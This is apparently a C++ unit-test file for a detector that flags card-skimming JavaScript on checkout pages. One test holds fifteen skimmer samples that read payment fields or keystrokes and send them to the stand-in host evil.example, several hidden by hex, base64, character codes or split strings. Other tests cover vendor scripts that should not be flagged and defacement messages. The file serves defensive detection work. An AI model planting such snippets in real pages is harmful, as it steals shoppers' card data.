// SPDX-License-Identifier: Apache-2.0
#include "probes/script.h"

#include "probes/script_text.h"
#include "probes/word_search.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <array>
#include <string>

namespace bw {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

ScriptPlace at_checkout(std::string_view script = "https://static.shop.example/app.js") {
  return {.page = parse_url("https://www.shop.example/checkout"), .script = parse_url(script)};
}
ScriptReading read_own(std::string_view source) {
  return read_script(source, at_checkout());
}

std::string hex(std::string_view text) {
  constexpr std::string_view kDigits = "0123456789ABCDEF";
  std::string out;
  for (const char c : text) {
    out += {'\\', 'x', kDigits[static_cast<unsigned char>(c) >> 4], kDigits[c & 15]};
  }
  return out;
}

TEST(WordSearch, FindsWordsInsideAndAcrossOthers) {
  constexpr auto kWords = std::to_array<std::string_view>({"he", "she", "hers", "his"});
  const WordSearch search(kWords);
  std::vector<std::pair<std::size_t, std::size_t>> found;
  search.each("ushers his\xff he", [&](auto word, auto at) { found.emplace_back(word, at); });
  EXPECT_THAT(found,
              ElementsAre(std::pair(1U, 1U),
                          std::pair(0U, 2U),
                          std::pair(2U, 2U),
                          std::pair(3U, 7U),
                          std::pair(0U, 12U)));
}

TEST(ScriptText, UndoesWhatHides) {
  EXPECT_EQ(undo_hiding("a='" + hex("https") + "'").text, "a='https'");
  EXPECT_EQ(undo_hiding("'htt' + \"ps:\"+'//x'").text, "'https://x'");
  EXPECT_THAT(undo_hiding("x('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')").text,
              HasSubstr("\"https://evil.example/\""));
  EXPECT_THAT(undo_hiding("String.fromCharCode(105, 110,112,117,116)").text,
              HasSubstr("\"input\""));
  const auto text = undo_hiding("a='" + hex("https://evil.example") + "'");
  EXPECT_TRUE(text.is_hidden(text.text.find("https")));
  EXPECT_FALSE(text.is_hidden(0));
}

// Each way in which samples gather, wait, hide and send, on its own.
TEST(Script, SeesWhatVisitorsTypeGoToStrangers) {
  const std::string evil = "https://evil.example/c";
  const std::array<std::string, 15> samples{
      // A payment form's data on mouseup, posted with a delay.
      "addEventListener('load',function(){var b=q('#pay');['mouseup','touchend'].forEach(function("
      "e){b.addEventListener(e,function(){var f=JSON.stringify(Array.from(new FormData(q('#f'))));"
      "setTimeout(function(){var x=new XMLHttpRequest();x.open('POST','" +
          evil + "');x.send(f)},500)})})})",
      // An image with the serialised form.
      "$(document).on('submit','form',function(){var s=$(this).serialize();$('#p').attr('src','" +
          evil + ".gif?id='+btoa(s))})",
      "var i=new Image();i.src='" + evil + "?d='+$('form').serialize()",
      "var i=new Image();i.src=`" + evil + "?d=${$('form').serialize()}`",
      // Strings in hexadecimal, nothing readable left.
      "var _0xd3c8=['" + hex("input,select,textarea") + "','" + hex("POST") + "','" + hex(evil) +
          "'];function _0x2(_0x5){_0x5[_0xd3c8[0]].forEach(_0x6)}",
      // The address in base64, the call far away.
      "var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==');" + std::string(20'000, ' ') +
          "document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});go(u,d)",
      // The address as character codes.
      "var "
      "u=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,"
      "108,101,47);new FormData(f);navigator.sendBeacon(u,f)",
      // The address in pieces.
      "fetch('https://ev'+'il.exa' + 'mple/c',{method:'POST',body:new "
      "FormData(document.forms[0])})",
      // A named address, sent to later.
      "var gate='" + evil + "';function s(d){navigator.sendBeacon(gate,d)}s(new FormData(f))",
      // A socket.
      "var w=new WebSocket('wss://evil.example/s');w.onopen=function(){w.send($('form').serialize("
      "))}",
      // Fields by their names.
      "var n=document.getElementById('cc_number').value;fetch('" + evil + "?n='+n)",
      // Key by key.
      "document.addEventListener('keyup',function(e){b+=e.target.value;navigator.sendBeacon('" +
          evil + "',b)})",
      // On leaving the page.
      "addEventListener('beforeunload',function(){navigator.sendBeacon('" + evil +
          "',new URLSearchParams(new FormData(document.querySelector('form'))))})",
      // A form of their own.
      "var f=document.createElement('form');f.method='POST';f.action='" + evil +
          "';copy(document.forms[0],f);f.submit()",
      // Without a scheme.
      "$.post('//evil.example/c',$('#co-payment-form').serializeArray())",
  };
  for (const auto& sample : samples) {
    const auto reading = read_own(sample);
    EXPECT_THAT(reading.takes_to, ElementsAre("https://evil.example")) << sample;
    EXPECT_TRUE(is_suspect(reading)) << sample;
    EXPECT_THAT(script_marks(reading, "https://static.shop.example"),
                Contains("sends:https://static.shop.example>https://evil.example"))
        << sample;
  }
}

TEST(Script, LeavesWhatIsTheShopsAndItsProvidersBusiness) {
  const auto vendor = [](std::string_view source) {
    return read_script(source, at_checkout("https://js.paywell.example/v3/fields.js"));
  };
  // Hosted fields post the card to their own vendor.
  EXPECT_FALSE(is_suspect(vendor(
      "var n=document.querySelector('input[name=cardnumber]').value,c=q('cvc').value;fetch("
      "'https://api.paywell.example/v1/tokens',{method:'POST',body:JSON.stringify({n:n,c:c})})")));
  // Session replay records keys for its own host.
  EXPECT_FALSE(is_suspect(
      vendor("document.addEventListener('keyup',function(e){r.push(e.target.value)});setInterval("
             "function()"
             "{navigator.sendBeacon('https://in.paywell.example/r',JSON.stringify(r))},5e3)")));
  // A fraud SDK: fingerprints, base64, timers, its own host.
  EXPECT_FALSE(is_suspect(vendor(
      "var d=btoa([screen.width,navigator.userAgent,document.cookie].join());var x=new "
      "XMLHttpRequest;x.open('POST','https://risk.paywell.example/fp');x.send(d);setTimeout(eval("
      "'1'),9);localStorage.fp=d;String.fromCharCode(65)")));
}

TEST(Script, LeavesOrdinaryCodeBe) {
  const std::array<std::string, 9> samples{
      // The shop's own checkout.
      "document.querySelector('#payment').addEventListener('submit',function(e){fetch('/api/"
      "orders',"
      "{method:'POST',body:new "
      "FormData(e.target)}).then(function(){location.href='/checkout/done'})"
      "})",
      "fetch('https://api.shop.example/"
      "cards',{method:'POST',body:JSON.stringify({cvv:cvv.value})})",
      // A tag manager loads other people's code and hears of submits.
      "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime()});var "
      "j=d.createElement(s);j.async=true;j.src='https://tags.example/gtm.js?id='+i;d.head."
      "appendChild(j);d.addEventListener('submit',function(e){w[l].push({event:'gtm.formSubmit',id:"
      "e.target.id})})})(window,document,'script','dataLayer','T-1')",
      // Page views by picture.
      "var i=new "
      "Image();i.src='https://stats.example/p.gif?u='+encodeURIComponent(location.href)+'&r="
      "'+document.referrer",
      // A library that can serialise forms, and one that names a page for its errors.
      "u.fn.extend({serialize:function(){return u.param(this.serializeArray())}});" +
          std::string(6'000, ' ') +
          "function p(e){for(var t='https://react.example/errors/'+e,n=1;n<2;n++)t+='&args[]='+n;"
          "return'Minified error '+e+'; visit '+t}" +
          std::string(300, ' ') + "x.open('GET','/api')",
      // Licences and name spaces.
      "/*! See https://licence.example/mit */var f=new "
      "FormData(q);e.createElementNS('http://www.w3."
      "org/2000/svg','g');" +
          std::string(300, ' ') + "fetch('/save',{method:'POST',body:f})",
      // Feature detection.
      "window.Shim=function(a,b,c){function d(e){return e in "
      "b.documentElement.style}return{_version:"
      "'2.6.2',csstransforms:d('transform'),touch:'ontouchstart' in a}}(this,this.document)",
      // A help page in a window of its own beside a form.
      "var f=new FormData(q);h.onclick=function(){window.open('https://help.example/cards')}",
      // Talks of breaches where a person asked.
      "function check(p){return look(p).then(function(n){if(n){alert('This one was found in a "
      "breach "
      "of another site, so take another.')}})}",
  };
  for (const auto& sample : samples) {
    const auto reading = read_own(sample);
    EXPECT_FALSE(is_suspect(reading)) << sample << "\n" << testing::PrintToString(reading.traits);
    EXPECT_THAT(script_marks(reading, "https://static.shop.example"), IsEmpty()) << sample;
  }
}

TEST(Script, SeesThatFieldsAreReadBehindAMask) {
  const auto reading = read_own(
      "var _0x4f=_0x1a(0x1f);document.querySelectorAll('input').forEach(_0x4f);var _0x9=new "
      "Image();_0x9.src=_0x4f(2)");
  EXPECT_THAT(script_marks(reading, "https://static.shop.example"),
              ElementsAre("hides:https://static.shop.example"));
}

TEST(Script, SeesDefacersSpeak) {
  for (const auto* sample :
       {"alert('You have been hacked by the Lantern Army')",
        "(function(w){w.has=1;w.alert('Ever wondered how safe this place was? It was not: see "
        "yourself at the breach lookup!')})(window)",
        "document.write('<h1>Defaced by nobody</h1>')",
        "setTimeout(function(){document.body.innerHTML='<b>The Crew was here</b>'},1)"}) {
    EXPECT_THAT(script_marks(read_own(sample), "inline"), ElementsAre("boasts:inline")) << sample;
  }
}

TEST(Script, KeepsItsLimitsInHostileText) {
  std::string text;
  for (const std::string_view part : {"'https://",
                                      "x.open(a,",
                                      "\\x41",
                                      "\"+\"",
                                      "alert('hack a b c d e {",
                                      "_0xa",
                                      "fromCharCode(",
                                      "'https://a.b/",
                                      "'//",
                                      "var e='https://a.bc/'"}) {
    text.clear();
    while (text.size() < kScriptReadMax)
      text += part;
    const auto reading = read_own(text);
    EXPECT_LE(reading.origins.size(), 20U) << part;
    EXPECT_LE(reading.sends_to.size(), 8U) << part;
    EXPECT_LE(reading.takes_to.size(), reading.sends_to.size()) << part;
  }
}

}  // namespace
}  // namespace bw
